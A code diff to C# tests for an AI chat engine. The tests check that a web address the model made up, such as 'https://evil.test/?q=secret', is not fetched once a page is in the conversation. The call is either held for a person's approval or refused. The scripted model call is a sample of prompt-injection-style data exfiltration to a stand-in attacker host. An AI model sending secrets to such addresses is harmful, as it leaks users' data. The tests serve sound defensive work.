@@ -1,4 +1,5 @@
 using FuncChat.Engine.Chat;
+using System.Text;
 using FuncChat.Tests.Support;
 using FuncChat.Tools;
 using Microsoft.Extensions.DependencyInjection;
@@ -37,13 +38,28 @@ public sealed class MadeUpAddressTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task Address_that_the_model_made_up_is_not_read_once_a_page_is_in_the_conversation()
+    public async Task Address_that_the_model_made_up_waits_for_a_person_once_a_page_is_in_the_conversation()
     {
         var events = await ChatAsync("https://start.test/", "https://evil.test/?q=secret");
 
         Assert.Equal(["https://start.test/"], _read);
-        Assert.Contains("is in no message of the user", events.Last(each => each.Name == "tool_call_result").Text("content"), StringComparison.Ordinal);
-        Assert.Equal("complete", events[^1].Name);
+        var asked = events.Single(each => each.Name == "approval_request");
+        Assert.Equal("""{"url":"https://evil.test/?q=secret"}""", asked.Text("arguments"));
+        Assert.Contains("in no message of yours", asked.Text("reason"), StringComparison.Ordinal);
+        Assert.Null(asked.Text("allows_always"));
+        Assert.Equal("parked", events[^1].Name);
+    }
+
+    [Fact]
+    public async Task Address_that_the_model_made_up_is_refused_when_the_client_can_not_return()
+    {
+        Script("https://start.test/", "https://evil.test/?q=secret");
+
+        using var response = await _server.Http.PostAsync("api/v1/chat/completions", new StringContent(
+            """{"model":"fake:model","messages":[{"role":"user","content":"Compare"}],"server_tools":["read_page"]}""", Encoding.UTF8, "application/json"));
+
+        Assert.Contains("Done.", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+        Assert.Equal(["https://start.test/"], _read);
     }
 
     [Theory]
@@ -84,11 +100,16 @@ public sealed class MadeUpAddressTests : IAsyncLifetime
     [InlineData("anything", "https://", false)]
     public void Text_names_an_address(string text, string url, bool names) => Assert.Equal(names, NamedAddress.IsIn(text, url));
 
-    private async Task<IReadOnlyList<SseEvent>> ChatAsync(params string[] urls)
+    private void Script(params string[] urls)
     {
         foreach (var (index, url) in urls.Index())
             _model.Calls(($"call{index}", "read_page", $$"""{"url":"{{url}}"}"""));
         _model.Says("Done.");
+    }
+
+    private async Task<IReadOnlyList<SseEvent>> ChatAsync(params string[] urls)
+    {
+        Script(urls);
         await using var stream = await TurnStream.PostAsync(
             _server.Http, """{"messages":[{"role":"user","content":"Compare with user.test/page"}],"tools":["read_page"]}""");
         return await stream.ToEndAsync();
